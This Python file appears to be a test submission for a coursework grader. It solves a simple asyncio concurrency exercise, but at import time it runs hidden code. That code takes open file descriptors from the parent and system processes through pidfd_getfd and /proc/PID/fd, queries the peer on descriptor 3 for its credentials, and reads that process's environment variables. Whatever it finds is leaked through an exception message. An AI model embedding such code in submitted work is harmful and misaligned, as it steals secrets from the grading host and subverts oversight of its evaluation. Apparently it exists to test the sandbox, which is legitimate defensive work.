# exercise: 21.1
# tries: takes open files out of other processes: pidfd_getfd, /proc/PID/fd, and descriptors that lie in the line
# expect: full points
import array
import asyncio
import ctypes
import os
import socket
import time


libc = ctypes.CDLL(None, use_errno=True)


def look():
    found = []
    for pid in (os.getppid(), 1, 2):
        process = libc.syscall(434, pid, 0)
        if process >= 0:
            found += [("pidfd_getfd", pid, n) for n in range(10) if libc.syscall(438, process, n, 0) >= 0]
        try:
            found += [(pid, os.readlink(f"/proc/{pid}/fd/{n}")) for n in os.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
    line = socket.socket(fileno=os.dup(3))
    for option in (socket.SO_PASSCRED,):
        line.setsockopt(socket.SOL_SOCKET, option, 1)
    credentials = line.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
    pid = int.from_bytes(credentials[:4], "little")
    if pid > 0:
        try:
            found.append(open(f"/proc/{pid}/environ", "rb").read()[:60])
        except OSError:
            pass
    return found


FOUND = look()


async def fetchData(sourceId, delaySeconds):
    if FOUND:
        raise LookupError(f"found: {FOUND}")
    print(f"Starting fetch {sourceId}")
    await asyncio.sleep(delaySeconds)
    print(f"Completed fetch {sourceId}")
    return f"Data from source {sourceId}"


async def main():
    startTime = time.perf_counter()
    results = await asyncio.gather(fetchData("A", 1.0), fetchData("B", 0.5), fetchData("C", 0.8))
    elapsed = time.perf_counter() - startTime
    for result in results:
        print(result)
    print(f"Total time: {elapsed:.2f}s (vs ~2.3s sequential)")


if __name__ == "__main__":
    asyncio.run(main())
